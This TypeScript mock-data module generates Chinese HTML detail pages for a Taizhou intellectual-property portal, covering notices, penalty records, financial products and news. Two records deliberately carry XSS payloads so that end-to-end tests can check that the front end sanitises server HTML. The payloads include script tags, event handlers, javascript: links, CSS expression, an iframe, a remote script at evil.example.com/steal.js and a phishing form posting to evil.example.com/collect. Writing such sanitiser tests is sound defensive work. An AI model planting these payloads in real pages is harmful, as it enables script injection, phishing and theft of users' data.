import { ANNOUNCEMENTS, NEWS_ITEMS, PRODUCTS_ITEMS, PUNISHMENTS } from './content';
import { AGENCIES, contactPhone, personName } from './parties';
import { createRandom, hashSeed, type Random } from './random';

/**
 * Seed data of the portal content detail endpoints (docs/api.md §6.1): the HTML bodies,
 * attachments and previous/next of announcements, the full public-disclosure record of penalty
 * notices, the terms of products and the bodies of news. Every record derives from its list item
 * and a seed of its id, so the same id always gives the same detail.
 *
 * Some bodies are deliberately hostile (scripts, event handlers, `javascript:` links, iframes,
 * `style` with `expression`/`url(javascript:)`) mixed with real formatting, to prove the front end
 * sanitises server HTML: HOSTILE_IDS lists them.
 */

/** Records whose HTML body carries hostile markup (docs/api.md §6.1 "Hostile bodies"). */
export const HOSTILE_IDS = { announcement: 'an-0035', news: 'nw-0032' } as const;

/** Image endpoint of the mock file service; `name` is a key of CONTENT_IMAGES. */
export const imageUrl = (name: string) => `/ipr-data-service/api/front/file/image?name=${name}`;
/** Download endpoint of the mock file service. */
export const downloadUrl = (id: string) => `/ipr-data-service/api/front/file/download?id=${id}`;

const bar = (x: number, value: number, max: number, label: string) => {
  const height = Math.round((value / max) * 150);
  return `<rect x="${x}" y="${190 - height}" width="56" height="${height}" fill="#0958d9"/>
<text x="${x + 28}" y="${182 - height}" text-anchor="middle" font-size="14" fill="#1f1f1f">${value}</text>
<text x="${x + 28}" y="212" text-anchor="middle" font-size="14" fill="#434343">${label}</text>`;
};

const step = (x: number, label: string) => `<rect x="${x}" y="70" width="140" height="64" rx="8" fill="#e6f4ff" stroke="#0958d9"/>
<text x="${x + 70}" y="108" text-anchor="middle" font-size="15" fill="#002c8c">${label}</text>`;

const arrow = (x: number) => `<path d="M${x} 102 h28 m-8 -6 l8 6 l-8 6" stroke="#595959" stroke-width="2" fill="none"/>`;

const svg = (title: string, body: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 720 240" width="720" height="240" role="img" aria-label="${title}">
<rect width="720" height="240" fill="#ffffff"/>
<text x="360" y="30" text-anchor="middle" font-size="17" font-weight="bold" fill="#141414">${title}</text>
${body}
</svg>`;

/** SVG images the bodies show, served by `GET /ipr-data-service/api/front/file/image?name=`. */
export const CONTENT_IMAGES: Record<string, { svg: string; alt: string }> = {
  'grant-trend': {
    alt: '柱状图：2021—2025年泰州市发明专利授权量分别为2156、2480、2871、3235、3642件',
    svg: svg(
      '2021—2025年泰州市发明专利授权量（件）',
      [2156, 2480, 2871, 3235, 3642].map((v, i) => bar(110 + i * 110, v, 3642, `${2021 + i}年`)).join('\n'),
    ),
  },
  'apply-process': {
    alt: '流程图：网上填报、属地初审、专家评审、公示立项',
    svg: svg(
      '项目申报流程',
      ['网上填报', '属地初审', '专家评审', '公示立项'].map((label, i) => step(40 + i * 170, label)).join('\n') +
        [180, 350, 520].map(arrow).join('\n'),
    ),
  },
  'pledge-growth': {
    alt: '柱状图：2022—2026年前三季度泰州市知识产权质押登记金额分别为18.6、24.3、31.2、40.5、46.8亿元',
    svg: svg(
      '泰州市知识产权质押登记金额（亿元）',
      [18.6, 24.3, 31.2, 40.5, 46.8].map((v, i) => bar(110 + i * 110, v, 46.8, `${2022 + i}年`)).join('\n'),
    ),
  },
};

const figure = (name: string, caption: string) =>
  `<figure><img src="${imageUrl(name)}" alt="${CONTENT_IMAGES[name].alt}" width="720" height="240"><figcaption>${caption}</figcaption></figure>`;

const table = (caption: string, head: string[], rows: Array<Array<string | number>>) =>
  `<table><caption>${caption}</caption><thead><tr>${head.map((h) => `<th>${h}</th>`).join('')}</tr></thead><tbody>${rows
    .map((row) => `<tr>${row.map((cell) => `<td>${cell}</td>`).join('')}</tr>`)
    .join('')}</tbody></table>`;

const list = (tag: 'ul' | 'ol', items: string[]) => `<${tag}>${items.map((item) => `<li>${item}</li>`).join('')}</${tag}>`;

/** 2026-05-21 → 2026年5月21日, as signed at the foot of a Chinese official document. */
const chineseDate = (iso: string) => {
  const [y, m, d] = iso.split('-').map(Number);
  return `${y}年${m}月${d}日`;
};

/** The subject of a notice title: 关于组织申报X的通知 → 组织申报X. */
const subjectOf = (title: string) => title.replace(/^关于/, '').replace(/的(通知|通告|实施意见)$/, '');

const TAIZHOU_LANDLINE = (random: Random) => `0523-8${random.digits(7)}`;

function signature(item: API.AnnouncementItem) {
  return `<p>${item.department}</p><p>${chineseDate(item.publishDate)}</p>`;
}

function projectBody(item: API.AnnouncementItem, random: Random, year: number) {
  const contact = personName(random);
  return [
    '<p>各市（区）市场监督管理局、财政局，泰州医药高新区（高港区）市场监督管理局，各有关单位：</p>',
    `<p>为深入实施知识产权强市建设行动方案，推动知识产权创造、运用、保护、管理和服务全链条发展，现就${subjectOf(item.title)}有关事项通知如下。</p>`,
    '<h2>一、申报对象</h2>',
    '<p>在泰州市行政区域内依法注册、具有独立法人资格的企业、高校和科研院所，且同时满足以下条件：</p>',
    list('ul', [
      '近三年内无知识产权严重违法失信行为，未被列入严重违法失信名单；',
      '拥有与申报方向相关的有效发明专利，且专利权属清晰、无纠纷；',
      '设有知识产权管理机构或配备专职知识产权管理人员；',
      `申报单位${year - 1}年度研发投入占营业收入比例不低于3%。`,
    ]),
    '<h2>二、支持方向与标准</h2>',
    table(`${year}年度项目支持标准`, ['项目类别', '计划立项数（项）', '资助标准（万元/项）', '实施期限'], [
      ['高价值专利培育示范中心', random.int(3, 6), 50, '2年'],
      ['专利导航项目', random.int(4, 8), 30, '1年'],
      ['专利转化运用项目', random.int(8, 15), 20, '1年'],
      ['知识产权贯标提升项目', random.int(20, 40), 5, '1年'],
    ]),
    '<h2>三、申报程序</h2>',
    list('ol', [
      `网上填报：申报单位于${year}年${random.int(4, 6)}月30日前登录泰州市知识产权一站式公共服务平台，填写申报书并上传证明材料；`,
      '属地初审：各市（区）市场监督管理局对申报材料的真实性、完整性进行审核，出具推荐意见；',
      '专家评审：市市场监督管理局（知识产权局）组织专家进行材料评审和现场答辩；',
      '公示立项：评审结果在本平台公示5个工作日，无异议后下达立项文件。',
    ]),
    figure('apply-process', '图1 项目申报流程'),
    '<h2>四、有关要求</h2>',
    '<p>申报单位对申报材料的真实性负责。对弄虚作假、骗取资助资金的，一经查实，撤销立项、追回资金，并按有关规定纳入信用记录。同一单位同一年度只能申报一个项目类别。</p>',
    '<h2>五、联系方式</h2>',
    `<p>${item.department}知识产权促进处，联系人：${contact}，电话：${TAIZHOU_LANDLINE(random)}。</p>`,
    signature(item),
  ].join('');
}

function noticeBody(item: API.AnnouncementItem, random: Random, year: number) {
  return [
    '<p>各有关单位：</p>',
    `<p>根据上级部门工作部署，结合我市实际，现就${subjectOf(item.title)}有关工作通知如下。</p>`,
    '<h2>一、工作目标</h2>',
    `<p>以服务创新主体为中心，进一步营造尊重知识、崇尚创新、诚信守法的知识产权文化氛围，提升全市${year}年知识产权工作质效。</p>`,
    '<h2>二、工作安排</h2>',
    table('主要工作安排', ['时间', '工作内容', '责任单位'], [
      [`${year}年${random.int(4, 5)}月上旬`, '制定工作方案，明确任务分工', '市市场监督管理局（知识产权局）'],
      [`${year}年${random.int(6, 7)}月`, '组织实施，开展现场检查与宣传服务', '各市（区）市场监督管理局'],
      [`${year}年${random.int(8, 9)}月`, '汇总情况，公开结果', '市知识产权保护中心'],
    ]),
    '<h2>三、工作要求</h2>',
    list('ol', [
      '<strong>加强组织领导。</strong>各单位要明确分管领导和具体联系人，确保各项工作落到实处。',
      '<strong>注重工作实效。</strong>坚持问题导向，做到检查与服务并重，帮助企业解决实际困难。',
      '<strong>及时报送信息。</strong>工作中的典型做法和经验请及时报送市局知识产权保护处。',
    ]),
    figure('grant-trend', '图1 近五年全市发明专利授权情况'),
    `<p>联系电话：${TAIZHOU_LANDLINE(random)}，电子邮箱：zscq@tzscjg.example.gov.cn。</p>`,
    signature(item),
  ].join('');
}

function policyBody(item: API.AnnouncementItem, random: Random) {
  return [
    '<h2>第一章 总则</h2>',
    `<p><strong>第一条</strong> 为深入实施知识产权强国战略，加快建设知识产权强市，根据《中华人民共和国专利法》《江苏省知识产权促进和保护条例》等法律法规，结合本市实际，制定本${item.title.includes('指引') ? '指引' : '办法'}。</p>`,
    '<p><strong>第二条</strong> 本办法适用于在泰州市行政区域内依法登记注册的企业、高等院校、科研院所及其他组织。</p>',
    '<h2>第二章 支持措施</h2>',
    '<p><strong>第三条</strong> 对符合条件的单位和个人，按以下方式给予支持：</p>',
    list('ol', [
      '对新授权的发明专利给予资助，优先支持战略性新兴产业领域；',
      '对通过《专利合作条约》（PCT）途径提交的国际专利申请给予资助；',
      '对开展知识产权质押融资的企业给予贷款贴息和评估费补贴；',
      '对专利转让、许可实施并完成备案的，按合同实际交易额给予奖励。',
    ]),
    table('资助奖励标准', ['项目', '标准', '年度上限'], [
      ['国内发明专利授权', '每件0.5万元', '单位每年50万元'],
      ['PCT国际专利申请', '每件1万元', '单位每年30万元'],
      ['质押融资贷款贴息', `实际利息的${random.int(3, 5)}0%`, '每家企业每年30万元'],
      ['专利转化运用奖励', '交易额的5%', '每项20万元'],
    ]),
    figure('grant-trend', '图1 2021—2025年泰州市发明专利授权量'),
    '<h2>第三章 附则</h2>',
    '<p><strong>第四条</strong> 以欺诈等不正当手段获取资助的，由市市场监督管理局（知识产权局）追回资助资金，并依法依规处理。</p>',
    `<p><strong>第五条</strong> 本办法由泰州市市场监督管理局（知识产权局）负责解释，自${chineseDate(item.publishDate)}起施行。</p>`,
  ].join('');
}

function interpretationBody(item: API.AnnouncementItem, random: Random) {
  const subject = item.title.replace(/^一图读懂/, '').replace(/政策解读$/, '');
  return [
    `<p>近日，${subject}正式印发。为便于社会公众准确理解政策内容，现解读如下。</p>`,
    '<h2>一、起草背景</h2>',
    '<p>近年来，我市知识产权事业快速发展，专利质量持续提升，但仍存在高价值专利占比不高、转化运用不充分等问题。为进一步发挥政策引导作用，在广泛调研和征求意见的基础上，形成了本文件。</p>',
    figure('pledge-growth', '图1 近年全市知识产权质押登记金额'),
    '<h2>二、主要内容</h2>',
    list('ul', [
      '<strong>突出质量导向：</strong>资助对象由“数量”转向“质量”，重点支持高价值发明专利；',
      '<strong>强化转化运用：</strong>新增专利开放许可、质押融资和转化运用支持条款；',
      '<strong>优化兑现方式：</strong>申报、审核、拨付全流程线上办理，做到“免申即享”。',
    ]),
    '<h2>三、主要变化</h2>',
    table('新旧政策对比', ['事项', '原规定', '新规定'], [
      ['发明专利授权资助', '每件1万元', '每件0.5万元，战略性新兴产业领域上浮20%'],
      ['质押融资贴息', '实际利息的30%', `实际利息的${random.int(4, 5)}0%`],
      ['办理方式', '线下提交纸质材料', '在本平台线上申报'],
    ]),
    '<h2>四、咨询方式</h2>',
    `<p>政策咨询电话：${TAIZHOU_LANDLINE(random)}（工作日 8:30—17:30）。</p>`,
  ].join('');
}

/**
 * Hostile markup mixed into a real body: every item here must be neutralised by the front end,
 * while the headings, list, table and image around it stay. `window.__xss` is what a successful
 * attack would set; end-to-end tests check it stays undefined.
 */
const HOSTILE_ANNOUNCEMENT_PARTS = [
  '<script>window.__xss = "script"; alert("xss")</script>',
  '<p onclick="window.__xss = \'onclick\'">名单如下，点击企业名称可查看培育方向。</p>',
  '<img src="/ipr-front/no-such-image.png" alt="" onerror="window.__xss = \'onerror\'">',
  '<p><a href="javascript:window.__xss=\'href\'">查看完整名单</a>，或访问<a href="https://www.cnipa.gov.cn/">国家知识产权局网站</a>查询企业专利信息。</p>',
  '<iframe src="https://evil.example.com/phish"></iframe>',
  '<svg onload="window.__xss = \'svg\'"><circle r="10"></circle></svg>',
  '<p style="background:url(javascript:window.__xss=\'style\');width:expression(alert(1))">培育期为三年，期满进行绩效评价。</p>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">下载名单</a>',
].join('');

const HOSTILE_NEWS_PARTS = [
  '<script src="https://evil.example.com/steal.js"></script>',
  '<img src="x" onerror="window.__xss = \'news-onerror\'" alt="">',
  '<p><a href="JaVaScRiPt:window.__xss=\'news-href\'" target="_self">点击查看案件详情</a></p>',
  '<form action="https://evil.example.com/collect"><input name="phone" placeholder="输入手机号领取补贴"></form>',
  '<object data="https://evil.example.com/x.swf"></object>',
  '<div onmouseover="window.__xss = \'news-hover\'">快速维权服务覆盖新材料、生物医药和高端装备三个产业。</div>',
].join('');

function announcementBody(item: API.AnnouncementItem): string {
  const random = createRandom(hashSeed(item.id));
  const year = Number(item.publishDate.slice(0, 4));
  let body: string;
  switch (item.category) {
    case '项目申报':
      body = projectBody(item, random, year);
      break;
    case '政策文件':
      body = policyBody(item, random);
      break;
    case '政策解读':
      body = interpretationBody(item, random);
      break;
    default:
      body = noticeBody(item, random, year);
  }
  if (item.id === HOSTILE_IDS.announcement) {
    // After the second section, so the hostile parts sit between real formatting.
    const cut = body.indexOf('<h2>三、');
    body = `${body.slice(0, cut)}${HOSTILE_ANNOUNCEMENT_PARTS}${body.slice(cut)}`;
  }
  return body;
}

function attachmentsOf(item: API.AnnouncementItem): API.Attachment[] {
  const random = createRandom(hashSeed(`${item.id}:files`));
  const names: Record<string, string[]> = {
    项目申报: ['申报指南.pdf', '项目申报书（模板）.docx', '申报汇总表.xlsx'],
    政策文件: ['政策全文.pdf'],
    通知公告: ['工作方案.pdf', '回执表.docx'],
    政策解读: [],
  };
  return (names[item.category] ?? []).map((name, index) => {
    const id = `${item.id}-${index + 1}`;
    return { name: `附件${index + 1}：${name}`, size: random.int(18, 2400) * 1024 + random.int(0, 1023), url: downloadUrl(id) };
  });
}

const link = (item: { id: string; title: string; publishDate?: string }): API.ContentLink => ({
  id: item.id,
  title: item.title,
  ...(item.publishDate ? { publishDate: item.publishDate } : {}),
});

function buildAnnouncementDetails(): Map<string, API.AnnouncementDetail> {
  const details = new Map<string, API.AnnouncementDetail>();
  // ANNOUNCEMENTS is newest first: the item after an entry is older (previous), the one before newer (next).
  ANNOUNCEMENTS.forEach((item, index) => {
    const older = ANNOUNCEMENTS[index + 1];
    const newer = ANNOUNCEMENTS[index - 1];
    details.set(item.id, {
      ...item,
      content: announcementBody(item),
      attachments: attachmentsOf(item),
      previous: older ? link(older) : null,
      next: newer ? link(newer) : null,
    });
  });
  return details;
}

/** The rule broken and the penalty basis of each violation type (the list's `legalBasis` joins them). */
const PROVISIONS: Record<string, { violated: string; basis: string }> = {
  擅自开展专利代理业务: { violated: '《专利代理条例》第九条', basis: '《专利代理条例》第二十七条' },
  代理非正常专利申请: {
    violated: '《规范申请专利行为的规定》第三条',
    basis: '《专利代理条例》第二十五条、《规范申请专利行为的规定》第十一条',
  },
  以不正当手段招揽业务: {
    violated: '《专利代理条例》第二十五条第一款',
    basis: '《专利代理条例》第二十五条、《专利代理管理办法》第四十条',
  },
  虚假宣传: { violated: '《中华人民共和国反不正当竞争法》第八条第一款', basis: '《中华人民共和国反不正当竞争法》第二十条第一款' },
};

const STREETS = ['凤凰路', '海陵南路', '青年南路', '永定路', '春晖路', '鼓楼南路', '长江大道', '人民路', '府前路', '迎春路'];

function facts(item: API.PunishmentItem, random: Random): { facts: string; evidence: string[] } {
  const [y, m] = item.decisionDate.split('-').map(Number);
  const from = `${m > 6 ? y : y - 1}年${((m + 5) % 12) + 1}月`;
  const count = random.int(6, 48);
  switch (item.violationType) {
    case '擅自开展专利代理业务':
      return {
        facts: [
          `经查，当事人${item.partyName}未取得专利代理机构执业许可证，自${from}起以“专利申请一站式服务”名义，通过网络平台推广和电话营销等方式承接专利申请代理业务${count}件，收取代理费用共计人民币${(count * random.int(18, 32) * 100).toLocaleString('en-US')}元。`,
          '当事人的上述行为属于擅自开展专利代理业务。案发后，当事人积极配合调查，如实陈述违法事实，并已停止相关业务。',
        ].join('\n'),
        evidence: ['现场检查笔录', '当事人询问笔录', '代理委托合同及收费凭证', '国家知识产权局专利检索记录', '网络推广页面截图'],
      };
    case '代理非正常专利申请':
      return {
        facts: [
          `经查，当事人自${from}起代理的专利申请中，有${count}件被国家知识产权局认定为非正常专利申请，涉及申请人${random.int(3, 12)}家。`,
          '当事人在明知上述申请属于技术方案明显相同、拼凑变劣等非正常申请情形的情况下，仍为申请人提交申请，扰乱了专利申请秩序。',
        ].join('\n'),
        evidence: ['国家知识产权局非正常专利申请认定通知书', '代理委托合同', '当事人询问笔录', '申请文件及往来邮件'],
      };
    case '以不正当手段招揽业务':
      return {
        facts: [
          `经查，当事人自${from}起在招揽业务时向${count}家企业承诺“保证授权、不授权全额退款”，并以明显低于成本的价格承接专利申请代理业务。`,
          '当事人的上述行为属于以不正当手段招揽业务，损害了委托人的合法权益和专利代理行业秩序。',
        ].join('\n'),
        evidence: ['宣传单页及报价单', '企业证人证言', '当事人询问笔录', '代理委托合同'],
      };
    default:
      return {
        facts: [
          `经查，当事人自${from}起在其网站和微信公众号宣称“国家知识产权局合作机构”“专利授权率100%”，并展示虚构的成功案例${count}件。`,
          '上述宣传内容无事实依据，对其服务能力作了虚假的商业宣传，欺骗、误导了相关公众。',
        ].join('\n'),
        evidence: ['网页及公众号页面电子数据取证记录', '当事人询问笔录', '国家知识产权局出具的情况说明'],
      };
  }
}

function buildPunishmentDetails(): Map<string, API.PunishmentDetail> {
  const details = new Map<string, API.PunishmentDetail>();
  for (const item of PUNISHMENTS) {
    const random = createRandom(hashSeed(item.id));
    const agency = AGENCIES.find((a) => a.name === item.partyName);
    const provisions = PROVISIONS[item.violationType] ?? { violated: item.legalBasis ?? '', basis: item.legalBasis ?? '' };
    const found = facts(item, random);
    const city = agency?.district.region === 'suzhou' ? '苏州市' : '泰州市';
    details.set(item.id, {
      ...item,
      partyCreditCode: item.partyCreditCode ?? agency?.creditCode ?? '',
      legalBasis: item.legalBasis ?? `违反${provisions.violated}，依据${provisions.basis}`,
      penaltyContent: item.penaltyContent ?? item.penaltyType,
      partyType: '法人及非法人组织',
      legalRepresentative: personName(random),
      partyAddress: `${city}${agency?.district.name ?? ''}${random.pick(STREETS)}${random.int(1, 288)}号${random.int(2, 18)}楼${random.int(1, 12)}0${random.int(1, 9)}室`,
      ...(agency?.licensed ? { agencyLicenceNo: `32${random.int(200, 399)}` /* Jiangsu agency codes start with 32 */ } : {}),
      facts: found.facts,
      evidence: found.evidence,
      violatedProvision: provisions.violated,
      penaltyBasis: provisions.basis,
      dataSource: item.authority,
    });
  }
  return details;
}

const PRODUCT_TERMS: Record<string, { term: string; conditions: string[]; extra: string }> = {
  专利质押贷款: {
    term: '1–3年，可循环使用',
    conditions: [
      '在泰州市注册的科技型中小企业或高新技术企业，经营正常、信用良好',
      '拥有权属清晰、处于有效期内的发明或实用新型专利，剩余保护期不少于5年',
      '专利与企业主营业务相关，且未被质押或许可他人独占实施',
      '企业及实际控制人无不良信用记录',
    ],
    extra: '贷款纳入泰州市知识产权质押融资风险补偿资金池，企业可按规定申请贴息补助。办理质押登记后最快5个工作日放款。',
  },
  知识产权保险: {
    term: '保险期间1年，可续保',
    conditions: [
      '投保专利为有效专利，且权属无争议',
      '投保企业在泰州市依法注册，近三年无重大知识产权违法记录',
      '如实告知专利的许可、质押及纠纷情况',
    ],
    extra: '符合条件的企业可申请市级知识产权保险保费补贴，补贴比例为实缴保费的50%。',
  },
  知识产权评估: {
    term: '受理后7–15个工作日出具报告',
    conditions: ['委托方为专利权人或经专利权人授权的单位', '提供专利证书、最近一次年费缴纳凭证和实施情况说明', '评估目的明确（质押融资、转让、作价入股等）'],
    extra: '评估采用收益法为主、市场法和成本法为辅，报告符合资产评估执业准则。',
  },
  专利托管: {
    term: '托管期1年起，期满可续',
    conditions: ['委托方拥有有效专利或处于审查中的专利申请', '签订托管服务协议并提供专利清单'],
    extra: '托管期间按月提供专利台账和年费缴纳提醒，重大事项24小时内通知委托方。',
  },
  知识产权证券化: {
    term: '产品期限2–3年',
    conditions: [
      '企业拥有可产生稳定许可收入的专利',
      '近两年营业收入持续增长，无重大诉讼和不良信用记录',
      '同意将专利许可给特殊目的载体并接受存续期管理',
    ],
    extra: '由市知识产权保护中心协助企业筛选入池专利，证券公司负责产品设计和发行。',
  },
  知识产权运营: {
    term: '按项目约定',
    conditions: ['交易标的为权属清晰的有效专利或专利申请', '委托方提供专利证书及权利人身份证明'],
    extra: '服务全程在泰州市知识产权一站式公共服务平台留痕，交易双方可随时查询办理进度。',
  },
};

function buildProductDetails(): Map<string, API.ProductDetail> {
  const details = new Map<string, API.ProductDetail>();
  for (const item of PRODUCTS_ITEMS) {
    const random = createRandom(hashSeed(item.id));
    const terms = PRODUCT_TERMS[item.category] ?? PRODUCT_TERMS['知识产权运营'];
    details.set(item.id, {
      ...item,
      term: terms.term,
      description: [item.summary ?? item.name, terms.extra].join('\n'),
      conditions: terms.conditions,
      contact: {
        name: personName(random),
        phone: contactPhone(random, 'taizhou'),
        address: `泰州市${random.pick(['海陵区', '高港区', '泰州医药高新区'])}${random.pick(STREETS)}${random.int(1, 288)}号`,
      },
    });
  }
  return details;
}

/** News bodies: the lead, two paragraphs on the subject, and, by turns, a list, a table and an image. */
function newsBody(item: API.NewsItem, index: number): string {
  const random = createRandom(hashSeed(item.id));
  const parts = [
    `<p>${item.summary ?? item.title}</p>`,
    `<p>据介绍，这是${item.source === '泰州市知识产权保护中心' ? '保护中心' : '我市'}贯彻落实知识产权强市建设行动方案的又一项具体举措。下一步，有关部门将总结经验做法，持续优化服务，推动知识产权更好地服务实体经济和创新发展。</p>`,
    '<h2>几点做法</h2>',
    list('ul', [
      '<strong>部门协同：</strong>市场监管、财政、金融监管等部门建立联动机制，定期会商解决企业诉求；',
      '<strong>服务前移：</strong>在重点园区设立服务站点，提供政策咨询、专利检索和维权指导；',
      '<strong>数据赋能：</strong>依托一站式公共服务平台，实现业务网上办、进度实时查。',
    ]),
  ];
  if (index % 2 === 0) {
    parts.push(
      table('相关数据', ['指标', '数值', '同比'], [
        ['服务企业（家次）', random.int(120, 900), `+${random.int(8, 35)}%`],
        ['办结事项（件）', random.int(40, 300), `+${random.int(5, 28)}%`],
      ]),
    );
  }
  if (index % 3 === 0) parts.push(figure('grant-trend', '全市发明专利授权量持续增长'));
  parts.push(`<p>（${item.source}）</p>`);
  let body = parts.join('');
  if (item.id === HOSTILE_IDS.news) body = body.replace('<h2>几点做法</h2>', `<h2>几点做法</h2>${HOSTILE_NEWS_PARTS}`);
  return body;
}

function buildNewsDetails(): Map<string, API.NewsDetail> {
  const details = new Map<string, API.NewsDetail>();
  NEWS_ITEMS.forEach((item, index) => {
    const random = createRandom(hashSeed(`${item.id}:author`));
    // Related: same source first, then the nearest in time; newest first.
    const related = NEWS_ITEMS.filter((other) => other.id !== item.id)
      .map((other, otherIndex) => ({ other, score: (other.source === item.source ? 0 : 100) + Math.abs(otherIndex - index) }))
      .sort((a, b) => a.score - b.score)
      .slice(0, 5)
      .map(({ other }) => other)
      .sort((a, b) => b.publishDate.localeCompare(a.publishDate))
      .map(link);
    details.set(item.id, {
      ...item,
      content: newsBody(item, index),
      ...(item.source.endsWith('日报') ? { author: `记者 ${personName(random)} 通讯员 ${personName(random)}` } : {}),
      related,
    });
  });
  return details;
}

export const ANNOUNCEMENT_DETAILS = buildAnnouncementDetails();
export const PUNISHMENT_DETAILS = buildPunishmentDetails();
export const PRODUCT_DETAILS = buildProductDetails();
export const NEWS_DETAILS = buildNewsDetails();

/** Every attachment by the id in its download URL. */
export const ATTACHMENTS = new Map(
  [...ANNOUNCEMENT_DETAILS.values()].flatMap((detail) =>
    detail.attachments.map((file) => [new URL(file.url, 'http://mock.local').searchParams.get('id') ?? '', file] as const),
  ),
);

// Umi loads every file under mock/ as a route map; this helper module declares no routes.
export default {};
